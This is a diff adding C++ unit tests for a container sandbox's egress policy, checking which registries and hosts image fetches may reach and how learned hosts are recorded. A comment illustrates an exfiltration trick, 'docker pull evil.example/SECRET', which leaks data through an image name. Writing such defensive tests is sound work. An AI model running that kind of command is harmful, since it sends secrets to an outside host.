@@ -1,7 +1,11 @@
 // SPDX-License-Identifier: Apache-2.0
+#include "executor/egress/learned.hpp"
 #include "executor/policy/policy.hpp"
 
 #include <gtest/gtest.h>
+
+#include <cstdlib>
+#include <filesystem>
 
 namespace slipway::policy {
 namespace {
@@ -69,6 +73,70 @@ TEST(Policy, ARulesEgressReplacesTheDefaultKeyByKey) {
             std::vector<std::string>{"a.example"});
   EXPECT_EQ(effective_for(config, {"own/app"}).egress.allow, std::vector<std::string>{"b.example"});
   EXPECT_TRUE(effective_for(config, {"own/app"}).egress.learn);
+}
+
+TEST(Policy, ARuleThatClosesDoesNotLearnByAnothersWord) {
+  auto config = with_registry();
+  config.sandbox.egress = {"allowlist", {"a.example"}, true};
+  ASSERT_TRUE(config::parse_policy("[[rule]]\nproject = \"none/*\"\negress = \"none\"\n"
+                                   "[[rule]]\nproject = \"list/*\"\negress = \"allowlist\"\n"
+                                   "egress_allow = [\"b.example\"]\n",
+                                   "p", config));
+
+  EXPECT_FALSE(effective_for(config, {"none/app"}).egress.learn);
+  EXPECT_FALSE(effective_for(config, {"list/app"}).egress.learn);
+  EXPECT_TRUE(effective_for(config, {"other/app"}).egress.learn) << "control";
+}
+
+class FetchTest : public testing::Test {
+protected:
+  void SetUp() override {
+    std::string pattern = testing::TempDir() + "fetch-XXXXXX";
+    ASSERT_NE(::mkdtemp(pattern.data()), nullptr);
+    config_.slipway.state_dir = pattern;
+  }
+  void TearDown() override { std::filesystem::remove_all(config_.slipway.state_dir); }
+
+  bool may(const char* image) const {
+    return admit_fetch(config_, effective_for(config_, {"grp/app"}), {"grp/app"}, reference(image))
+        .ok();
+  }
+  config::Config config_ = with_registry();
+};
+
+// A name is enough to carry data out: `docker pull evil.example/SECRET`.
+TEST_F(FetchTest, OutOfAClosedNetworkOnlyFromRegistriesAndWhatIsListed) {
+  config_.sandbox.egress = {
+      "allowlist", {"listed.example", "port.example:5000", "*.below.example"}, false};
+
+  EXPECT_TRUE(may("reg:5000/base:1"));
+  EXPECT_TRUE(may("listed.example/base:1"));
+  EXPECT_TRUE(may("port.example:5000/base:1"));
+  EXPECT_TRUE(may("x.below.example/base:1"));
+  EXPECT_FALSE(may("port.example/base:1"));
+  EXPECT_FALSE(may("evil.example/secret:1"));
+  EXPECT_FALSE(may("alpine:3")) << "Docker Hub is a host like any other";
+  EXPECT_FALSE(may("10.0.0.5:8443/a:1"));
+
+  config_.sandbox.egress.mode = "none";
+
+  EXPECT_FALSE(may("listed.example/base:1"));
+  EXPECT_TRUE(may("reg:5000/base:1"));
+
+  config_.sandbox.egress.mode = "open-except-registries";
+
+  EXPECT_TRUE(may("evil.example/secret:1")) << "control";
+}
+
+TEST_F(FetchTest, WhileARuleLearnsTheHostIsWrittenDown) {
+  config_.sandbox.egress = {"allowlist", {}, true};
+
+  EXPECT_TRUE(may("new.example:5000/base:1"));
+
+  const auto known = egress::learned(learned_dir(config_), "grp/app");
+  ASSERT_TRUE(known.ok());
+  ASSERT_EQ(known->size(), 1U);
+  EXPECT_EQ(known->front().str(), "new.example:5000");
 }
 
 TEST(Policy, PushToUnknownRegistryIsDeniedNamingTheKey) {
